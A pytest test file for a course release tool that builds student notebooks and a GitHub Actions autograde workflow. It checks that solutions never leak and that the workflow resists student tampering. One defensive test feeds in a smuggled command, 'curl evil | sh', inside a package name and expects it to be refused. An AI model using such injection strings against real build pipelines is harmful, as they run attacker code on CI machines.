"""The student material: generated from the bank, and holding nothing of solutions/."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
import yaml

import grader
from grader.course.bank import Bank, load_bank
from grader.errors import GraderError
from grader.grading.grader import Grader, GradingOptions
from grader.platforms.release import release, workflow_yaml

from ..conftest import COURSE_LIMITS, ROOT

#: The cells every released notebook opens with: how to install the grader, and Colab's.
SETUP_CELLS = 2


@pytest.fixture(scope="module")
def material(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("release")
    release(load_bank(ROOT, with_solutions=False), out)
    return out


def secret_lines() -> set[str]:
    """Lines of solutions/ that appear nowhere in exercises/."""
    public = "\n".join(
        p.read_text(encoding="utf-8")
        for p in (ROOT / "exercises").rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    )
    lines = set()
    for path in (ROOT / "solutions").rglob("*.py"):
        for line in path.read_text(encoding="utf-8").splitlines():
            stripped = line.strip()
            if len(stripped) >= 24 and stripped not in public:
                lines.add(stripped)
    return lines


def test_nothing_from_solutions_is_released(material: Path) -> None:
    secrets = secret_lines()
    assert len(secrets) > 100  # the bank's solutions, hidden checks and mistakes
    released = [p for p in material.rglob("*") if p.is_file()]
    for path in released:
        text = path.read_text(encoding="utf-8")
        if path.suffix == ".ipynb":
            text = "\n".join("".join(c["source"]) for c in json.loads(text)["cells"])
        leaked = [line for line in secrets if line in text]
        assert leaked == [], f"{path}: {leaked[:3]}"
    assert not any("solution" in p.name or "mistake" in str(p) for p in released)


def test_every_exercise_has_a_notebook_and_its_public_checks(
    material: Path, public_bank: Bank
) -> None:
    for exercise in public_bank.exercises:
        notebook = nbformat.read(material / "notebooks" / f"{exercise.id}.ipynb", as_version=4)
        nbformat.validate(notebook)
        statement, starter, check = notebook.cells[SETUP_CELLS:]
        assert f"# EXERCISE: {exercise.id}" in starter.source
        assert exercise.title.ko.split()[0] in statement.source
        assert check.source == f'import grader\n\ngrader.check("{exercise.id}")'
        assert (material / "exercises" / exercise.id / "test_public.py").is_file()
    assert "grader check" in (material / "README.md").read_text()


def test_the_released_material_is_a_bank_grader_check_can_use(material: Path) -> None:
    released = load_bank(material, with_solutions=False)
    assert released.ids() == load_bank(ROOT).ids()


@pytest.mark.slow
def test_the_course_notebook_filled_with_solutions_scores_full_marks(
    material: Path, bank: Bank
) -> None:
    notebook = nbformat.read(material / "course.ipynb", as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.source.startswith("# EXERCISE:"):
            exercise_id = cell.source.splitlines()[0].split(":", 1)[1].strip()
            solution = bank.get(exercise_id).solution
            assert solution is not None
            cell.source = solution.read_text(encoding="utf-8")
    filled = material / "filled.ipynb"
    nbformat.write(notebook, filled)
    with Grader(bank, GradingOptions(limits=COURSE_LIMITS)) as grader:
        result = grader.grade_file(filled)
    failed = [c.check for e in result.exercises for c in e.checks if not c.passed]
    assert failed == [] and result.points == result.max_points > 100


def test_the_autograde_workflow_passes_actionlint(material: Path) -> None:
    workflow = material / ".github" / "workflows" / "autograde.yml"
    actionlint = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
    done = subprocess.run(
        [actionlint, "-no-color", str(workflow)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr
    text = workflow.read_text()
    assert 'grader" ci' in text and "pull_request:" in text and "--all" in text
    assert f"tf-grader=={grader.__version__}" in text


def test_actionlint_would_catch_a_broken_workflow(material: Path, tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    text = (material / ".github" / "workflows" / "autograde.yml").read_text()
    broken.write_text(text.replace("steps.grader.outputs.result", "steps.grade.outputs.result"))
    actionlint = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
    done = subprocess.run([actionlint, "-no-color", str(broken)], capture_output=True, text=True)
    assert done.returncode == 1 and "grade" in done.stdout


def test_a_grader_package_that_cannot_be_quoted_is_refused() -> None:
    with pytest.raises(GraderError, match="pip requirement"):
        workflow_yaml('tf-grader"; curl evil | sh; "')


def grade_step(material: Path, name: str = "Grade") -> str:
    workflow = yaml.safe_load((material / ".github" / "workflows" / "autograde.yml").read_text())
    [step] = [s for s in workflow["jobs"]["grade"]["steps"] if s.get("name") == name]
    return str(step["run"])


@pytest.mark.parametrize("instructor_bank", [False, True])
def test_the_grader_is_never_installed_from_the_students_tree(
    material: Path, tmp_path: Path, instructor_bank: bool
) -> None:
    """A .grader-bank/pyproject.toml the student commits would install their own grader."""
    workspace, temp, bin_dir = tmp_path / "workspace", tmp_path / "temp", tmp_path / "bin"
    for folder in (workspace / ".grader-bank", temp / "grader" / "bin", bin_dir):
        folder.mkdir(parents=True)
    (workspace / ".grader-bank" / "pyproject.toml").write_text("[project]\nname = 'forged'\n")
    if instructor_bank:
        (temp / "grader-bank").mkdir()
        (temp / "grader-bank" / "pyproject.toml").write_text("[project]\nname = 'bank'\n")
    (bin_dir / "python").write_text('#!/bin/sh\n[ "$1" = -m ] && [ "$2" = venv ]\n')
    (temp / "grader" / "bin" / "pip").write_text('#!/bin/sh\necho "$*" > "$RUNNER_TEMP/pip"\n')
    for script in (bin_dir / "python", temp / "grader" / "bin" / "pip"):
        script.chmod(0o755)
    environment = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "RUNNER_TEMP": str(temp),
        "GITHUB_WORKSPACE": str(workspace),
        "GRADER_PACKAGE": "tf-grader==9",
    }
    subprocess.run(
        ["bash", "-e", "-c", grade_step(material, "Install the grader")],
        cwd=workspace,
        env=environment,
        check=True,
    )
    installed = (temp / "pip").read_text().split()[-1]
    assert installed == (str(temp / "grader-bank") if instructor_bank else "tf-grader==9")


def test_the_instructors_bank_is_cloned_outside_the_workspace(material: Path) -> None:
    step = grade_step(material, "Check out the instructor's bank")
    assert '"$RUNNER_TEMP/grader-bank"' in step and "GITHUB_WORKSPACE" not in step
    assert "$GRADER_BANK_TOKEN" in step and "${{" not in step  # no secret in the script text


@pytest.mark.parametrize(
    ("event", "bank", "expected"),
    [
        ("pull_request", "", "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
        ("push", "", "ci --junit {temp}/grader-junit.xml --lang ko --all|GRADER_BANK="),
        (
            "pull_request",
            "temp",
            "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK={temp}/grader-bank",
        ),
        # A bank the student commits is never taken for the instructor's.
        ("pull_request", "workspace", "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
    ],
)
def test_the_grade_step_runs_grader_ci_as_the_event_needs(
    material: Path, tmp_path: Path, event: str, bank: str, expected: str
) -> None:
    """The step's shell, run with stand-ins for sudo and the grader that record their call."""
    workspace, temp, bin_dir = tmp_path / "workspace", tmp_path / "temp", tmp_path / "bin"
    for folder in (workspace, temp / "grader" / "bin", bin_dir):
        folder.mkdir(parents=True)
    if bank == "temp":
        (temp / "grader-bank" / "exercises").mkdir(parents=True)
    elif bank == "workspace":
        (workspace / ".grader-bank" / "exercises").mkdir(parents=True)
        (workspace / ".grader-bank" / "solutions").mkdir(parents=True)
    (bin_dir / "sudo").write_text('#!/bin/sh\nshift\nexec "$@"\n')
    (temp / "grader" / "bin" / "grader").write_text(
        '#!/bin/sh\necho "$*|GRADER_BANK=$GRADER_BANK" > "$RUNNER_TEMP/called"\n'
    )
    for script in (bin_dir / "sudo", temp / "grader" / "bin" / "grader"):
        script.chmod(0o755)
    environment = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "RUNNER_TEMP": str(temp),
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_EVENT_NAME": event,
    }
    subprocess.run(
        ["bash", "-e", "-c", grade_step(material)], cwd=workspace, env=environment, check=True
    )
    called = (temp / "called").read_text().strip()
    assert called == expected.format(temp=temp, workspace=workspace)


def test_each_released_exercise_ends_at_the_next_statements_heading(
    material: Path, tmp_path: Path
) -> None:
    from nbformat.v4 import new_code_cell, new_markdown_cell

    from grader.course.submission import load_submission

    notebook = nbformat.read(material / "course.ipynb", as_version=4)
    # A student's own note and helper cell below the first starter stay in its section.
    after_starter = SETUP_CELLS + 2
    notebook.cells[after_starter:after_starter] = [
        new_markdown_cell("### 메모"),
        new_code_cell("helper = 1"),
    ]
    path = tmp_path / "mine.ipynb"
    nbformat.write(notebook, path)
    submission = load_submission(path)
    starters = [c for c in submission.chunks if c.source.startswith("# EXERCISE:")]
    assert all(c.exercise == c.source.split()[2] for c in starters)
    first = starters[0].exercise
    # The set-up cell is shared; the starter, the helper and the check cell are the first's.
    assert [c.exercise for c in submission.chunks[:4]] == [None, first, first, first]
    assert submission.chunks[3].source == f'import grader\n\ngrader.check("{first}")'
    assert submission.grading_points()[first] == 4


def test_the_released_readme_says_where_an_answer_ends(material: Path) -> None:
    readme = (material / "README.md").read_text(encoding="utf-8")
    korean, english = readme.split("## English")
    assert "# END EXERCISE" in korean and "같은 수준" in korean and "`model`" in korean
    assert "# END EXERCISE" in english and "heading" in english and "`model`" in english


def test_every_released_notebook_opens_with_the_one_line_install(tmp_path: Path) -> None:
    package = "tf-grader @ git+https://example.org/course/grader.git@v1"
    out = tmp_path / "release"
    release(load_bank(ROOT, with_solutions=False), out, grader_package=package)
    for path in [out / "course.ipynb", *sorted((out / "notebooks").glob("*.ipynb"))]:
        how, colab = nbformat.read(path, as_version=4).cells[:SETUP_CELLS]
        assert how.cell_type == "markdown" and f"`pip install {package}`" in how.source
        assert "Colab" in how.source and "grader.check" in how.source
        assert colab.cell_type == "code" and '"google.colab" in sys.modules' in colab.source
        assert colab.source.splitlines()[-1].strip() == f"!pip install --quiet '{package}'"
    readme = (out / "README.md").read_text(encoding="utf-8")
    korean, english = readme.split("## English")
    for part in (korean, english):
        assert f"`pip install {package}`" in part and 'grader.check("one_hot"' in part
        assert "GRADER_LANG" in part


def test_a_grader_package_ipython_would_expand_is_refused(tmp_path: Path) -> None:
    with pytest.raises(GraderError, match="can quote"):
        release(load_bank(ROOT, with_solutions=False), tmp_path, grader_package="tf-grader{x}")
